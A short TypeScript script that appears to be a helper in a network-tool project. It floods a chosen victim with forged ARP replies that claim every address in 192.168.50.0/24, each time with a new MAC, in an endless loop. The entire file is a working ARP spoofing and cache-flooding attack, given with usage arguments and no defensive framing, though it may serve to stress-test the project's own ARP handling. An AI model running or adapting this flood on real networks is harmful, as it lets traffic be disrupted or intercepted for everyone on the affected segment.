import { parseAddress } from "../../src/core/address.ts";
import { parseMac } from "../../src/core/device.ts";
import { openRawLink } from "../../src/outbound/devices/survey/raw-link.ts";
import { arpRequest } from "../../src/wire/arp/parse.ts";

/**
 * Claims every address of 192.168.50.0/24 with ever different MAC addresses, as fast as it can, until it is ended. Arguments:
 * the interface and the receiver (MAC and IPv4 address).
 */
const [link = "", victimMac = "", victimAddress = ""] = process.argv.slice(2);
const opened = await openRawLink(link, "arp");
const [to, target] = [parseMac(victimMac), parseAddress(victimAddress)];
if (opened.kind !== "open" || to === undefined || target === undefined) throw new Error("cannot flood");
process.stdout.write("ready\n");
for (let at = 0; ; at++) {
  const mac = parseMac(`06${(at % 0xffff_ffff).toString(16).padStart(10, "0")}`);
  const address = parseAddress(`192.168.50.${1 + (at % 254)}`);
  if (mac === undefined || address === undefined) continue;
  const packet = Buffer.from(arpRequest({ mac, address }, target));
  packet.writeUInt16BE(2, 6);
  opened.link.send(packet, to);
  if (at % 500 === 0) await new Promise((resolve) => setImmediate(resolve));
}
